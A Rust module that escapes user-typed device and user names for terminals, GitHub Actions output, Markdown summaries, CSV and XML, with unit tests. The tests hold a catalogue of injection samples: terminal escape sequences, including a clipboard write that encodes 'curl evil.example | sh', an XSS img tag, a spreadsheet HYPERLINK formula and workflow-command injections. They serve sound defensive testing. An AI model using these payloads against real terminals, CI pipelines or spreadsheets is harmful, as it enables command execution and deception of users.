//! Tenant values made safe for the medium that shows them. Device, group and user
//! names are typed by ordinary people and may hold anything: escape sequences that
//! retitle a terminal or rewrite the clipboard, a carriage return that overwrites the
//! line, bidi overrides that reorder it, line breaks that start a GitHub Actions
//! workflow command, HTML and links for a job summary, formulas for a spreadsheet,
//! characters XML forbids. Each medium has one function here; printers call it on
//! every value they interpolate, never on their own texts, so what lookout-doctor says
//! itself reads as written.
//!
//! Nothing here decides what is shown, only how: machine formats (the JSON report,
//! SARIF) keep exact values and escape them the JSON way.

use std::borrow::Cow;
use std::fmt::Write as _;

/// How a printer writes a value into its text: one of the functions below, or
/// [`none`] where the value is shown exactly.
pub type Escape = fn(&str) -> Cow<'_, str>;

/// The value as it is: for machine formats and for values escaped later, whole.
pub fn none(s: &str) -> Cow<'_, str> {
    Cow::Borrowed(s)
}

/// What a line break inside a value becomes where the format's syntax is line-based.
pub const FOLDED_LINE_BREAK: &str = "⏎";

/// Characters of a value shown in an error message at most.
pub const QUOTED_CHARS: usize = 16;

/// Characters that change what a terminal (or a log viewer) shows without being shown
/// themselves: C0 and C1 controls, DEL, bidi controls, zero-width and other invisible
/// format characters, line and paragraph separators, noncharacters.
fn is_hidden(c: char) -> bool {
    matches!(
        c,
        '\0'..='\x1f'
            | '\x7f'..='\u{9f}'
            | '\u{ad}'
            | '\u{34f}'
            | '\u{61c}'
            | '\u{115f}'..='\u{1160}'
            | '\u{17b4}'..='\u{17b5}'
            | '\u{180b}'..='\u{180f}'
            | '\u{200b}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}'
            | '\u{3164}'
            | '\u{fdd0}'..='\u{fdef}'
            | '\u{feff}'
            | '\u{ffa0}'
            | '\u{fff9}'..='\u{fffb}'
            | '\u{1bca0}'..='\u{1bca3}'
            | '\u{1d173}'..='\u{1d17a}'
            | '\u{e0000}'..='\u{e007f}'
    ) || (c as u32 & 0xfffe) == 0xfffe
}

/// A line break of any convention: CR, LF, VT, FF, NEL, U+2028, U+2029.
fn is_line_break(c: char) -> bool {
    matches!(
        c,
        '\n' | '\r' | '\x0b' | '\x0c' | '\u{85}' | '\u{2028}' | '\u{2029}'
    )
}

/// The visible form of a hidden character: `\n`, `\r`, `\t`, else `\u{1b}`.
fn push_visible(out: &mut String, c: char) {
    match c {
        '\n' => out.push_str("\\n"),
        '\r' => out.push_str("\\r"),
        '\t' => out.push_str("\\t"),
        c => {
            let _ = write!(out, "\\u{{{:x}}}", c as u32);
        }
    }
}

/// Rewrites `s` character by character when any character needs it; borrows otherwise.
fn map_chars<'a>(
    s: &'a str,
    needs: impl Fn(char) -> bool,
    mut push: impl FnMut(&mut String, char),
) -> Cow<'a, str> {
    let Some(first) = s.find(&needs) else {
        return Cow::Borrowed(s);
    };
    let mut out = String::with_capacity(s.len() + 16);
    out.push_str(&s[..first]);
    for c in s[first..].chars() {
        push(&mut out, c);
    }
    Cow::Owned(out)
}

/// For any text meant for a terminal or a log: every hidden character (controls,
/// DEL, bidi and invisible format characters, line breaks) shown as a visible escape
/// (`\n`, `\r`, `\t`, `\u{1b}`, `\u{202e}`); everything else, a backslash included,
/// unchanged. Escaping twice changes nothing more.
pub fn terminal(s: &str) -> Cow<'_, str> {
    map_chars(s, is_hidden, |out, c| {
        if is_hidden(c) {
            push_visible(out, c);
        } else {
            out.push(c);
        }
    })
}

/// Line breaks inside a value (CRLF counting as one) folded to [`FOLDED_LINE_BREAK`],
/// for prose in formats whose syntax, or whose readers, go by lines.
pub fn fold_lines(s: &str) -> Cow<'_, str> {
    let Some(first) = s.find(is_line_break) else {
        return Cow::Borrowed(s);
    };
    let mut out = String::with_capacity(s.len() + 8);
    out.push_str(&s[..first]);
    let mut chars = s[first..].chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\r' && chars.peek() == Some(&'\n') {
            continue;
        }
        if is_line_break(c) {
            out.push_str(FOLDED_LINE_BREAK);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// A value quoted in an error message: its first [`QUOTED_CHARS`] characters,
/// escaped as for a terminal (an escape is never cut), in double quotes, with "…"
/// when more was left out. An error may end up in a CI log anyone can read: it names
/// the value, it does not reproduce it.
pub fn quote(s: &str) -> String {
    let mut out = String::with_capacity(QUOTED_CHARS + 8);
    out.push('"');
    let mut chars = s.chars();
    for c in chars.by_ref().take(QUOTED_CHARS) {
        if is_hidden(c) {
            push_visible(&mut out, c);
        } else {
            out.push(c);
        }
    }
    if chars.next().is_some() {
        out.push('…');
    }
    out.push('"');
    out
}

/// A parser's message with every value it quotes (serde's `string "…"`, and the
/// backticked name of `unknown variant` and `unknown field`) cut to a short, escaped
/// prefix. Serde quotes whatever it read, and what it read may be a secret: a link
/// to a token file read as an export would print the token in a CI log.
pub fn parser_message(message: &str) -> String {
    let mut out = String::with_capacity(message.len().min(256));
    let mut rest = message;
    loop {
        let string = rest.find("string \"").map(|i| (i, i + "string \"".len()));
        let named = ["unknown variant `", "unknown field `"]
            .iter()
            .filter_map(|p| rest.find(p).map(|i| (i, i + p.len())))
            .min();
        match (string, named) {
            (Some((_, start)), n) if n.is_none_or(|(at, _)| start < at) => {
                out.push_str(&rest[..start - 1]);
                let (value, len) = debug_string(&rest[start..]);
                out.push_str(&quote(&value));
                rest = &rest[start + len..];
            }
            (_, Some((_, start))) => {
                out.push_str(&rest[..start - 1]);
                // Serde writes the name as it is, then `, expected …` or `, there are
                // no …` of its own: the value ends at the last such tail.
                let tail = &rest[start..];
                let end = ["`, expected ", "`, there are no "]
                    .iter()
                    .filter_map(|t| tail.rfind(t))
                    .max()
                    .or_else(|| tail.rfind('`'))
                    .unwrap_or(tail.len());
                let shown = quote(&tail[..end]);
                out.push('`');
                out.push_str(&shown[1..shown.len() - 1]);
                out.push('`');
                rest = tail.get(end + 1..).unwrap_or_default();
            }
            _ => {
                out.push_str(rest);
                return out;
            }
        }
    }
}

/// Reads a string serde wrote with `{:?}` (after its opening quote): the value it
/// stands for, and how many bytes it took, closing quote included.
fn debug_string(text: &str) -> (String, usize) {
    let mut value = String::new();
    let mut chars = text.char_indices();
    while let Some((i, c)) = chars.next() {
        match c {
            '"' => return (value, i + 1),
            '\\' => match chars.next().map(|(_, c)| c) {
                Some('n') => value.push('\n'),
                Some('r') => value.push('\r'),
                Some('t') => value.push('\t'),
                Some('0') => value.push('\0'),
                Some('u') => {
                    // `\u{1b}`: hex digits up to the closing brace.
                    let hex: String = chars
                        .by_ref()
                        .map(|(_, c)| c)
                        .skip_while(|&c| c == '{')
                        .take_while(|&c| c != '}')
                        .collect();
                    value.extend(u32::from_str_radix(&hex, 16).ok().and_then(char::from_u32));
                }
                Some(c) => value.push(c),
                None => break,
            },
            c => value.push(c),
        }
    }
    (value, text.len())
}

/// A line of terminal text that a GitHub Actions runner would read as a workflow
/// command (its first non-blank characters are `::`), with the first colon escaped
/// as `\u{3a}`. The tool's own lines never start so: only a value can put `::` there,
/// by wrapping.
pub fn terminal_line(line: &str) -> Cow<'_, str> {
    guard_command(line, "\\u{3a}")
}

/// `line` with its first colon replaced when the line reads as a workflow command.
fn guard_command<'a>(line: &'a str, colon: &str) -> Cow<'a, str> {
    let blank = line.len() - line.trim_start().len();
    if line[blank..].starts_with("::") {
        Cow::Owned(format!("{}{colon}{}", &line[..blank], &line[blank + 1..]))
    } else {
        Cow::Borrowed(line)
    }
}

/// A value in Markdown text (a paragraph, a list item, a table cell), meant for
/// `$GITHUB_STEP_SUMMARY`: shown as written, never as markup. Line breaks are folded;
/// hidden characters shown as escapes; `\ * _ [ ] | ~` and backticks backslash-escaped
/// (an underscore inside a word cannot make emphasis and stays); `<` and `&` as
/// entities, so no HTML tag (`<img>`, `</details>`) or entity forms; a word that
/// holds `://` or `www.` in a code span, where no autolink or link is made. E-mail
/// addresses may still show as mailto links.
pub fn markdown(s: &str) -> Cow<'_, str> {
    let needs = |c: char| {
        is_hidden(c)
            || matches!(
                c,
                '\\' | '`' | '*' | '_' | '[' | ']' | '|' | '~' | '<' | '&'
            )
    };
    if !s.contains(needs) && !has_link(s) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    let folded = fold_lines(s);
    let mut rest: &str = &folded;
    while !rest.is_empty() {
        let blank = rest.len() - rest.trim_start().len();
        let (spaces, after) = rest.split_at(blank);
        for c in spaces.chars() {
            markdown_char(&mut out, c, None, None);
        }
        let end = after.find(char::is_whitespace).unwrap_or(after.len());
        let (word, tail) = after.split_at(end);
        if has_link(word) {
            markdown_code_word(&mut out, word);
        } else {
            markdown_word(&mut out, word);
        }
        rest = tail;
    }
    Cow::Owned(out)
}

/// Text a GitHub-flavoured Markdown renderer would turn into a link by itself.
fn has_link(word: &str) -> bool {
    word.contains("://") || word.to_ascii_lowercase().contains("www.")
}

fn markdown_word(out: &mut String, word: &str) {
    let chars: Vec<char> = word.chars().collect();
    for (i, &c) in chars.iter().enumerate() {
        let before = i.checked_sub(1).map(|p| chars[p]);
        markdown_char(out, c, before, chars.get(i + 1).copied());
    }
}

fn markdown_char(out: &mut String, c: char, before: Option<char>, after: Option<char>) {
    let alnum = |c: Option<char>| c.is_some_and(char::is_alphanumeric);
    match c {
        c if is_hidden(c) => push_visible(out, c),
        '_' if alnum(before) && alnum(after) => out.push('_'),
        '\\' | '`' | '*' | '_' | '[' | ']' | '|' | '~' => {
            out.push('\\');
            out.push(c);
        }
        '<' => out.push_str("&lt;"),
        '&' => out.push_str("&amp;"),
        c => out.push(c),
    }
}

/// A word that would become a link, as code spans: inside one nothing is markup.
/// Backticks and pipes split it (a code span cannot hold its own fence, and a table
/// splits cells on any unescaped pipe) and are escaped between the spans.
fn markdown_code_word(out: &mut String, word: &str) {
    fn flush(out: &mut String, span: &mut String) {
        if !span.is_empty() {
            out.push('`');
            out.push_str(&terminal(span));
            out.push('`');
            span.clear();
        }
    }
    let mut span = String::new();
    for c in word.chars() {
        if matches!(c, '`' | '|') {
            flush(out, &mut span);
            out.push('\\');
            out.push(c);
        } else {
            span.push(c);
        }
    }
    flush(out, &mut span);
}

/// A value shown as code (a path, a tenant id): a code span whose fence is longer
/// than any run of backticks inside, padded when the value starts or ends with one.
/// Pipes are escaped for tables; line breaks folded; hidden characters escaped.
pub fn markdown_code(s: &str) -> String {
    let text = fold_lines(s);
    let text = terminal(&text).replace('|', "\\|");
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let fence = "`".repeat(longest + 1);
    let pad = if text.starts_with('`') || text.ends_with('`') {
        " "
    } else {
        ""
    };
    format!("{fence}{pad}{text}{pad}{fence}")
}

/// A paragraph of Markdown prose that may start with a value: a character that
/// would open a block there (a heading, a quote, a list, a thematic break, a table
/// row, a workflow command's `::`) is backslash-escaped. The tool's own sentences
/// start with a word.
pub fn markdown_paragraph(text: &str) -> Cow<'_, str> {
    let blank = text.len() - text.trim_start().len();
    let start = &text[blank..];
    let digits = start.len() - start.trim_start_matches(|c: char| c.is_ascii_digit()).len();
    let at = if digits > 0 {
        // "1. " and "1) " open an ordered list.
        match start[digits..].chars().next() {
            Some('.' | ')') => Some(blank + digits),
            _ => None,
        }
    } else {
        match start.chars().next() {
            Some('#' | '>' | '-' | '+' | '*' | '=' | ':' | '|') => Some(blank),
            _ => None,
        }
    };
    match at {
        Some(at) => Cow::Owned(format!("{}\\{}", &text[..at], &text[at..])),
        None => Cow::Borrowed(text),
    }
}

/// A CSV cell safe to open in a spreadsheet: a cell that starts with `=`, `+`, `-`,
/// `@`, TAB or CR (a formula to Excel, LibreOffice and Google Sheets) prefixed with a
/// single quote, as OWASP recommends. The tool's own cells never start so. Line
/// breaks are the caller's: CSV quotes them, and the tool's own multi-line cells
/// (numbered steps) keep theirs.
pub fn csv_cell(s: &str) -> Cow<'_, str> {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{s}"))
    } else {
        Cow::Borrowed(s)
    }
}

/// Text XML 1.0 accepts: every character it forbids (C0 controls other than TAB, LF
/// and CR; U+FFFE and U+FFFF) shown as a visible escape. quick-junit escapes markup
/// (`<`, `&`, quotes) but writes these as they are, which no XML parser accepts.
pub fn xml(s: &str) -> Cow<'_, str> {
    let forbidden = |c: char| matches!(c, '\0'..='\x08' | '\x0b' | '\x0c' | '\x0e'..='\x1f' | '\u{fffe}' | '\u{ffff}');
    map_chars(s, forbidden, |out, c| {
        if forbidden(c) {
            push_visible(out, c);
        } else {
            out.push(c);
        }
    })
}

/// GitHub Actions workflow-command data (the message after `::`): `%`, CR and LF
/// percent-encoded, so a value never ends the command's line.
pub fn workflow_data(s: &str) -> String {
    s.replace('%', "%25")
        .replace('\r', "%0D")
        .replace('\n', "%0A")
}

/// A workflow-command property (`title=`, `file=`): data escaping, plus `:` and `,`.
pub fn workflow_property(s: &str) -> String {
    workflow_data(s).replace(':', "%3A").replace(',', "%2C")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The hostile catalogue: what a device, group or user name may hold.
    const OSC_TITLE: &str = "\x1b]0;pwned\x07";
    const OSC_LINK: &str = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\";
    const OSC_CLIPBOARD: &str = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
    const CLEAR_SCREEN: &str = "\x1b[2J\x1b[H";
    const OVERWRITE: &str = "threat found\rall good    ";
    const RLO: &str = "invoice\u{202e}fdp.exe";
    const C1: &str = "a\u{80}b\u{9b}31mc\u{9f}";
    const DEL: &str = "x\x7fy";
    const INVISIBLE: &str = "a\u{200b}b\u{2066}c\u{2069}d\u{feff}e\u{e0041}";
    const ADD_MASK: &str = "later\n::add-mask::secret";
    const CRLF_ERROR: &str = "\r\n::error::x";

    fn catalogue() -> Vec<&'static str> {
        vec![
            OSC_TITLE,
            OSC_LINK,
            OSC_CLIPBOARD,
            CLEAR_SCREEN,
            OVERWRITE,
            RLO,
            C1,
            DEL,
            INVISIBLE,
            ADD_MASK,
            CRLF_ERROR,
        ]
    }

    #[test]
    fn terminal_shows_every_hidden_character_visibly() {
        assert_eq!(terminal(OSC_TITLE), "\\u{1b}]0;pwned\\u{7}");
        assert_eq!(terminal(CLEAR_SCREEN), "\\u{1b}[2J\\u{1b}[H");
        assert_eq!(terminal(OVERWRITE), "threat found\\rall good    ");
        assert_eq!(terminal(RLO), "invoice\\u{202e}fdp.exe");
        assert_eq!(terminal(C1), "a\\u{80}b\\u{9b}31mc\\u{9f}");
        assert_eq!(terminal(DEL), "x\\u{7f}y");
        assert_eq!(
            terminal(INVISIBLE),
            "a\\u{200b}b\\u{2066}c\\u{2069}d\\u{feff}e\\u{e0041}"
        );
        assert_eq!(terminal(ADD_MASK), "later\\n::add-mask::secret");
        assert_eq!(terminal("tab\there"), "tab\\there");
        for s in catalogue() {
            let shown = terminal(s);
            assert!(!shown.contains(is_hidden), "{shown:?}");
            // Idempotent: printing an escaped message again changes nothing.
            assert_eq!(terminal(&shown), shown);
        }
    }

    #[test]
    fn terminal_leaves_ordinary_text_alone() {
        for s in [
            "Diego’s iPhone 13 mini",
            "C:\\Users\\alice",
            "Zoë's Galaxy — 日本語 한국어 繁體",
            // An emoji with its variation selector.
            "❤\u{fe0f}",
        ] {
            assert!(matches!(terminal(s), Cow::Borrowed(_)), "{s}");
        }
    }

    #[test]
    fn line_breaks_fold_to_one_marker_each() {
        assert_eq!(fold_lines(ADD_MASK), "later⏎::add-mask::secret");
        assert_eq!(fold_lines(CRLF_ERROR), "⏎::error::x");
        assert_eq!(fold_lines("a\rb\u{85}c\u{2028}d\u{2029}e"), "a⏎b⏎c⏎d⏎e");
        assert!(matches!(fold_lines("one line"), Cow::Borrowed(_)));
        for s in catalogue() {
            assert_eq!(fold_lines(s).lines().count(), 1, "{s:?}");
        }
    }

    #[test]
    fn quotes_show_a_short_escaped_prefix() {
        assert_eq!(quote("maybe"), "\"maybe\"");
        assert_eq!(
            quote("ghp_0123456789abcdefghijklmnopqrstuvwxyz"),
            "\"ghp_0123456789ab…\""
        );
        assert_eq!(quote(ADD_MASK), "\"later\\n::add-mask…\"");
        // An escape is never cut: the 16th character is the whole `\u{1b}`.
        let q = quote(&format!("{}\x1b[2J", "x".repeat(15)));
        assert_eq!(q, format!("\"{}\\u{{1b}}…\"", "x".repeat(15)));
        assert_eq!(quote(&"é".repeat(100)).chars().count(), QUOTED_CHARS + 3);
    }

    #[test]
    fn lines_that_read_as_workflow_commands_are_guarded() {
        assert_eq!(
            terminal_line("    ::add-mask::x"),
            "    \\u{3a}:add-mask::x"
        );
        assert_eq!(terminal_line("::error::x"), "\\u{3a}:error::x");
        assert!(matches!(terminal_line("  a ::b"), Cow::Borrowed(_)));
        assert!(matches!(terminal_line(":x"), Cow::Borrowed(_)));
    }

    #[test]
    fn markdown_values_are_text_not_markup() {
        let cases = [
            (
                "<img src=x onerror=alert(1)>",
                "&lt;img src=x onerror=alert(1)>",
            ),
            ("</details>", "&lt;/details>"),
            ("[click](https://evil)", "`[click](https://evil)`"),
            (
                "see https://evil.example now",
                "see `https://evil.example` now",
            ),
            ("WWW.evil.example", "`WWW.evil.example`"),
            ("<https://evil.example>", "`<https://evil.example>`"),
            ("a|b", "a\\|b"),
            (
                "**bold** _it_ ~~s~~",
                "\\*\\*bold\\*\\* \\_it\\_ \\~\\~s\\~\\~",
            ),
            ("john_doe@contoso.com", "john_doe@contoso.com"),
            ("`code`", "\\`code\\`"),
            ("&lt;b&gt;", "&amp;lt;b&amp;gt;"),
            ("back\\slash", "back\\\\slash"),
            ("a\rb", "a⏎b"),
            ("line\n# heading", "line⏎# heading"),
            ("\x1b[2J", "\\u{1b}\\[2J"),
            ("x|https://a`b|c", "`x`\\|`https://a`\\``b`\\|`c`"),
        ];
        for (value, want) in cases {
            assert_eq!(markdown(value), want, "{value:?}");
        }
        assert!(matches!(
            markdown("Diego's iPhone 13 (alice@contoso.com)"),
            Cow::Borrowed(_)
        ));
    }

    #[test]
    fn markdown_code_spans_hold_any_value() {
        assert_eq!(markdown_code("fixtures/sample"), "`fixtures/sample`");
        assert_eq!(markdown_code("a`b"), "``a`b``");
        assert_eq!(markdown_code("`x"), "`` `x ``");
        assert_eq!(markdown_code("a|b\nc"), "`a\\|b⏎c`");
    }

    #[test]
    fn markdown_paragraphs_never_open_a_block() {
        for (text, want) in [
            ("# heading", "\\# heading"),
            ("> quote", "\\> quote"),
            ("- item", "\\- item"),
            ("1. item", "1\\. item"),
            ("12) item", "12\\) item"),
            ("::add-mask::x", "\\::add-mask::x"),
            ("=== x", "\\=== x"),
        ] {
            assert_eq!(markdown_paragraph(text), want);
        }
        for text in ["Lookout record", "2026 was", "日本語"] {
            assert!(matches!(markdown_paragraph(text), Cow::Borrowed(_)));
        }
    }

    #[test]
    fn csv_cells_never_start_a_formula() {
        for (value, want) in [
            (
                "=HYPERLINK(\"https://evil\",\"x\")",
                "'=HYPERLINK(\"https://evil\",\"x\")",
            ),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1", "'\r=1"),
            ("a\nb", "a\nb"),
            ("Bob's Pixel", "Bob's Pixel"),
            ("1+1", "1+1"),
        ] {
            assert_eq!(csv_cell(value), want, "{value:?}");
        }
    }

    #[test]
    fn xml_text_holds_no_forbidden_character() {
        assert_eq!(
            xml("a\u{fffe}b\u{ffff}c\u{1}d"),
            "a\\u{fffe}b\\u{ffff}c\\u{1}d"
        );
        assert!(matches!(xml("tab\tline\nreturn\r"), Cow::Borrowed(_)));
    }

    #[test]
    fn workflow_commands_escape_their_syntax() {
        assert_eq!(workflow_data("50% done\nnext"), "50%25 done%0Anext");
        assert_eq!(workflow_property("a: b, c"), "a%3A b%2C c");
    }

    /// Printers escape whole messages that quote values (health details, notes):
    /// that is only right while the tool's own texts hold nothing to escape.
    #[test]
    fn own_texts_need_no_terminal_escaping() {
        for lang in crate::messages::LANGUAGES {
            let msg = crate::messages::get(lang);
            for key in msg.keys() {
                let text = msg.t(key);
                assert!(matches!(terminal(&text), Cow::Borrowed(_)), "{lang} {key}");
            }
        }
        for &rule in crate::rules::RuleId::ALL {
            for (lang, t) in &crate::knowledge::of(rule).texts {
                let texts = [&t.title, &t.impact]
                    .into_iter()
                    .chain(t.diagnosis.values())
                    .chain(t.causes.values())
                    .chain(t.remediation.values().flatten());
                for text in texts {
                    assert!(
                        matches!(terminal(text), Cow::Borrowed(_)),
                        "{rule} {lang} {text}"
                    );
                }
            }
        }
    }
}
